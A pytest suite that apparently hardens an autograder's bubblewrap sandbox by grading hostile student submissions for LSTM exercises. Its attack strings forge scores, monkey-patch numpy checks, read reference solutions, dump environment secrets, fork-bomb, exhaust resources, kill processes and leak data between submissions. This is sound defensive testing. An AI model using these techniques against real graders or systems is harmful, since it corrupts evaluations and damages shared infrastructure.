"""Hostile submissions: none may raise a score, crash the grader, leave a file or a process behind.

Each attack is the untouched stubs (an honest score of 0) with attack code added to one module, so
any point it earns is a point stolen. The suite runs with bubblewrap (CI installs it) and, for the
attacks that do not depend on file-system isolation, without it.
"""

from __future__ import annotations

import json
import os
import socket
import textwrap
import threading
from pathlib import Path

import pytest
from conftest import PROJECT

from autograder.api import grade as grade_course
from autograder.cli import main
from autograder.course import open_course
from autograder.grading.grader import grade_submission, load_grader
from autograder.reports.feedback import check_feedback
from autograder.reports.gradescope import to_gradescope
from autograder.results.model import SubmissionResult
from autograder.sandbox import WarmSandbox, bubblewrap_available

MARKER = "attack-marker-987654"  # in every stray file name and every long-lived process's command line
STRAY_PATHS = [Path("/tmp") / MARKER, Path("/autograder/results/results.json"), Path("/root") / MARKER]
SECRET = "grader-secret-5f1e"

ATTACKS: dict[str, tuple[str, str]] = {
    "fake_results_on_stdout": (
        "lstm_gates",
        """
        import json, os, sys
        fake = json.dumps({"score": 999, "max_score": 36, "tests": []})
        print(fake); print(fake, file=sys.stderr); os.write(1, fake.encode()); os.write(2, fake.encode())
    """,
    ),
    "forge_the_result_channel": (
        "lstm_gates",
        """
        import json, os
        ids = [f"{c}#{i}" for c in ("a.sigmoid", "a.lstm_step", "a.gate_table", "c.num_parameters.worked")
               for i in range(5)]
        for fd in range(3, 40):
            for call_id in ids:
                try:
                    os.write(fd, (json.dumps({"id": call_id, "ok": True, "value": 42240}) + "\\n").encode())
                except OSError:
                    pass
    """,
    ),
    "write_where_platforms_read": (
        "lstm_budget",
        f"""
        import os
        for path in ("/autograder/results/results.json", "/tmp/{MARKER}", "/root/{MARKER}",
                     os.path.expanduser("~/{MARKER}"), "../{MARKER}", "/submission/{MARKER}"):
            try:
                os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
                with open(path, "w") as out:
                    out.write('{{"score": 999}}')
            except OSError:
                pass
    """,
    ),
    "exit_zero_at_import": ("lstm_gradients", "import sys\nsys.exit(0)\n"),
    "hard_exit_in_a_function": (
        "lstm_budget",
        """
        def num_parameters(*args, **kwargs):
            import os
            os._exit(0)
    """,
    ),
    "objects_equal_to_anything": (
        "lstm_budget",
        """
        import numpy as np

        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__

        class AnythingArray(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)

        def num_parameters(*args, **kwargs): return Anything()
        def weight_shapes(*args, **kwargs):
            return {k: Anything() for k in ("W_f", "W_i", "W_c", "W_o", "b_f", "b_i", "b_c", "b_o")}
        def training_memory(*args, **kwargs): return np.zeros(5).view(AnythingArray)
    """,
    ),
    "patch_numpy_and_the_runner": (
        "lstm_gates",
        """
        import builtins, sys
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, **k: np.ones(np.shape(b), dtype=bool)
        np.testing.assert_allclose = lambda *a, **k: None
        wire = sys.modules.get("autograder.wire_format")
        if wire is not None:
            wire.encode = lambda value, depth=0: 42240
        builtins.isinstance = lambda *a: True
    """,
    ),
    "read_the_reference": (
        "lstm_budget",
        """
        import os
        found = None
        for top in ("/work", "/", "/root", "/opt", "..", "../.."):
            for root, dirs, files in os.walk(top):
                if root.count(os.sep) > 6 or root.startswith(("/proc", "/sys", "/usr", "/submission")):
                    dirs[:] = []
                    continue
                if "lstm_budget.py" in files and "solutions" in root:
                    found = os.path.join(root, "lstm_budget.py")
                    break
            if found:
                break
        if found:
            exec(open(found).read())
    """,
    ),
    "swallow_the_alarm": (
        "lstm_gates",
        """
        import time

        def sigmoid(z):
            while True:
                try:
                    time.sleep(10)
                except BaseException:
                    pass
    """,
    ),
    "fork_bomb": (
        "lstm_gates",
        f"""
        import os, time

        def lstm_step(*args, **kwargs):
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        os.execv("/usr/bin/sleep", ["sleep", "{MARKER[-6:]}"])
                except OSError:
                    break
            return {{}}
    """,
    ),
    "exhaust_memory": (
        "lstm_gates",
        """
        import numpy as np

        def gate_table(*args, **kwargs):
            hog = [np.ones(10**8) for _ in range(1000)]
            return hog
    """,
    ),
    "leave_processes_behind": (
        "lstm_budget",
        f"""
        import os, subprocess

        def weight_shapes(*args, **kwargs):
            subprocess.Popen(["/usr/bin/sleep", "{MARKER[-6:]}"], start_new_session=True)
            if os.fork() == 0:
                os.setsid()
                os.execve("/usr/bin/sleep", ["sleep", "{MARKER[-6:]}"], {{}})  # no environment: no token
            return {{}}
    """,
    ),
    "outlive_the_call": (
        "lstm_budget",
        f"""
        import os, subprocess

        def weight_shapes(*args, **kwargs):
            subprocess.Popen(["/usr/bin/sleep", "{MARKER[-6:]}"], start_new_session=True)
            return {{}}

        def num_parameters(*args, **kwargs):
            for pid in os.listdir("/proc"):
                try:
                    if "{MARKER[-6:]}" in open(f"/proc/{{pid}}/cmdline").read():
                        return 42240  # the sleeper of the last check is still alive
                except OSError:
                    pass
            return -1
    """,
    ),
    "fill_the_disk": (
        "lstm_gradients",
        """
        def cell_path_gradient(f):
            block = b"x" * 2**20
            with open("/tmp/fill", "wb") as out:
                for _ in range(4096):
                    out.write(block)
            return f
    """,
    ),
    "flood_the_output": (
        "lstm_gradients",
        """
        import os, sys

        def rnn_hidden_gradients(*args):
            line = "y" * 10**6
            for _ in range(200):
                print(line)
                sys.stderr.write(line)
                os.write(1, line.encode())
            return None
    """,
    ),
    "steal_the_environment": (
        "lstm_gradients",
        """
        import os
        EXPLANATION = repr(dict(os.environ))
        CONCEPT_ANSWERS = {"q1": repr(dict(os.environ))[:500]}
    """,
    ),
    "blow_the_stack": (
        "lstm_budget",
        """
        import sys
        sys.setrecursionlimit(10**7)

        def training_memory(*args, **kwargs):
            def down(n): return down(n + 1) + 1
            return down(0)
    """,
    ),
    "kill_everything": (
        "lstm_gradients",
        """
        import os, signal

        def lstm_cell_gradients(*args, **kwargs):
            for target in (os.getppid(), -1, 1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
    """,
    ),
}
NEEDS_FILESYSTEM_ISOLATION = {
    "read_the_reference",
    "write_where_platforms_read",
    "fill_the_disk",
    "steal_the_environment",
}


def network_attack(port: int) -> tuple[str, str]:
    return (
        "lstm_gates",
        f"""
        import socket
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"stolen")
        except OSError:
            pass
    """,
    )


def build(folder: Path, module: str, code: str) -> Path:
    folder.mkdir(parents=True)
    for path in sorted((PROJECT / "exercises").glob("*.py")):
        name, text = path.stem, path.read_text()
        if name == module:
            text += "\n\n" + textwrap.dedent(code)
        (folder / f"{name}.py").write_text(text)
    return folder


def grade(folders: list[Path], *, sandbox: bool | None = None) -> list[SubmissionResult]:
    return grade_course(folders, course=open_course(PROJECT), sandbox=sandbox)


def marker_processes() -> list[str]:
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                with open(f"/proc/{entry.name}/cmdline", "rb") as cmdline:
                    text = cmdline.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARKER[-6:] in text and "pytest" not in text:
                found.append(f"{entry.name}: {text}")
    return found


class Listener:
    """A loopback server that records whether anything connected to it."""

    def __init__(self) -> None:
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return int(self.server.getsockname()[1])

    def serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def grade_attacks(
    tmp_path: Path, names: list[str], sandbox: bool, *, warm: bool = False
) -> tuple[dict[str, SubmissionResult], int]:
    listener = Listener()
    try:
        attacks = {name: ATTACKS[name] for name in names}
        attacks["reach_the_network"] = network_attack(listener.port)
        folders = [build(tmp_path / name, *attack) for name, attack in attacks.items()]
        os.environ["AUTOGRADER_TEST_SECRET"] = SECRET
        try:
            results = grade_warm(folders) if warm else grade(folders, sandbox=sandbox)
        finally:
            del os.environ["AUTOGRADER_TEST_SECRET"]
    finally:
        listener.close()
    return {result.submission: result for result in results}, listener.connections


def grade_warm(folders: list[Path]) -> list[SubmissionResult]:
    """Every folder through one warm sandbox, in order, as a batch worker grades them."""
    grader = load_grader(open_course(PROJECT))
    warm = WarmSandbox(grader.limits)
    try:
        return [grade_submission(folder, grader, warm=warm) for folder in folders]
    finally:
        warm.close()


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, SubmissionResult], int]:
    if not bubblewrap_available():
        pytest.fail("bubblewrap is not installed: .ci/run installs it (apt-get install bubblewrap)")
    for path in STRAY_PATHS:
        assert not path.exists(), f"{path} exists before the suite"
    return grade_attacks(tmp_path_factory.mktemp("attacks"), list(ATTACKS), sandbox=True)


def test_no_attack_earns_a_point(sandboxed: tuple[dict[str, SubmissionResult], int]) -> None:
    results, _ = sandboxed
    assert len(results) == len(ATTACKS) + 1
    inflated = {name: result.score for name, result in results.items() if result.score > 0}
    assert inflated == {}


def test_every_attack_gets_a_valid_result(sandboxed: tuple[dict[str, SubmissionResult], int]) -> None:
    results, _ = sandboxed
    for result in results.values():
        document = json.loads(json.dumps(to_gradescope(result)))
        assert document["max_score"] > 0 and len(document["tests"]) == 13
        assert result.isolation == "bubblewrap"


def test_no_stray_file_no_process_no_connection_no_secret(
    sandboxed: tuple[dict[str, SubmissionResult], int],
) -> None:
    results, connections = sandboxed
    assert [path for path in STRAY_PATHS if path.exists()] == []
    assert marker_processes() == []
    assert connections == 0
    assert all(SECRET not in json.dumps(to_gradescope(result)) for result in results.values())


def test_the_submission_folder_is_left_as_it_was(tmp_path: Path) -> None:
    folder = build(tmp_path / "side_effects", *ATTACKS["write_where_platforms_read"])
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    grade([folder], sandbox=bubblewrap_available())
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_without_bubblewrap_the_grader_survives_and_says_so(tmp_path: Path) -> None:
    names = [name for name in ATTACKS if name not in NEEDS_FILESYSTEM_ISOLATION]
    results, _ = grade_attacks(tmp_path, names, sandbox=False)
    for name, result in results.items():
        assert result.isolation.startswith("reduced"), name
        assert result.score == 0, name
    assert marker_processes() == []


def test_the_cli_exits_0_with_json_for_a_hostile_submission(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = build(tmp_path / "fake", *ATTACKS["fake_results_on_stdout"])
    assert main(["--course", str(PROJECT), "grade", str(folder), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)["score"] == 0


FORK_ATTEMPTS = 1000


@pytest.mark.parametrize("sandbox", [True, False])
def test_student_code_runs_unprivileged_with_a_process_limit(tmp_path: Path, sandbox: bool) -> None:
    folder = build(
        tmp_path / "probe_the_limits",
        "lstm_budget",
        f"""
        import os

        def num_parameters(input_size, hidden_size, *args, **kwargs):
            if input_size == 100 and hidden_size == 64 and kwargs.get("convention") == "pytorch":
                return os.getuid()
            made = 0
            for _ in range({FORK_ATTEMPTS}):
                try:
                    if os.fork() == 0:
                        os.execv("/usr/bin/sleep", ["sleep", "5"])
                    made += 1
                except OSError:
                    break
            return made
    """,
    )
    (result,) = grade([folder], sandbox=sandbox)
    counts = check_feedback(next(o for o in result.outcomes if o.check_id == "c.num_parameters.worked"))
    forks = int(counts.split("got ")[1].split(",")[0])
    # RLIMIT_NPROC counts every process of the user: the bound is what that user ran at the start
    # plus the limit, so with other graders running (another test suite) the count moves with them.
    # Alone it is at most the limit; in every case the limit stops the loop well before its end.
    assert forks < FORK_ATTEMPTS / 2, counts
    if os.geteuid() == 0:
        assert "PyTorch, I=100, H=64: result: got 65534," in counts, counts


LEAK_WRITER = (
    "lstm_budget",
    """
    import ctypes, os
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "leak"), "w") as out:
                out.write("42240")
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    libc.syscall.restype = ctypes.c_long
    libc.shmget(0x5157, 4096, 0o1000 | 0o666)  # a System V segment, key 0x5157
    libc.syscall(248, b"user", b"agleak", b"42240", 5, ctypes.c_long(-4))  # add_key to nobody's keyring
    for depth in range(3000):  # a tree too deep to delete recursively
        try:
            os.mkdir("/tmp/" + "d/" * depth)
        except OSError:
            break
""",
)
LEAK_READER = (
    "lstm_budget",
    """
    import ctypes

    def num_parameters(*args, **kwargs):
        for folder in ("/tmp", "/dev/shm"):
            try:
                return int(open(folder + "/leak").read())
            except OSError:
                pass
        libc = ctypes.CDLL(None)
        libc.syscall.restype = ctypes.c_long
        if libc.shmget(0x5157, 0, 0) >= 0:
            return 42240
        if libc.syscall(249, b"user", b"agleak", None, ctypes.c_long(0)) >= 0:  # request_key
            return 42240
        return -1
""",
)


def test_the_warm_sandbox_holds_too_and_forgets_between_submissions(tmp_path: Path) -> None:
    """Batch workers grade in one warm sandbox: every attack again, and one that tries to leave a
    file in /tmp for the next submission to read."""
    if os.geteuid() != 0 or not bubblewrap_available():
        pytest.fail("the warm sandbox needs root and bubblewrap (CI has both)")
    ATTACKS["leave_a_file_for_the_next_one"] = LEAK_WRITER
    ATTACKS["read_what_the_last_one_left"] = LEAK_READER
    try:
        names = [*ATTACKS]
        results, connections = grade_attacks(tmp_path, names, sandbox=True, warm=True)
    finally:
        del ATTACKS["leave_a_file_for_the_next_one"], ATTACKS["read_what_the_last_one_left"]
    assert {name: r.score for name, r in results.items() if r.score > 0} == {}
    assert all(r.isolation == "bubblewrap (warm)" for r in results.values())
    reader = next(
        o for o in results["read_what_the_last_one_left"].outcomes if o.check_id == "c.num_parameters.worked"
    )
    assert "got -1" in check_feedback(reader)
    assert [path for path in STRAY_PATHS if path.exists()] == []
    assert marker_processes() == []
    assert connections == 0
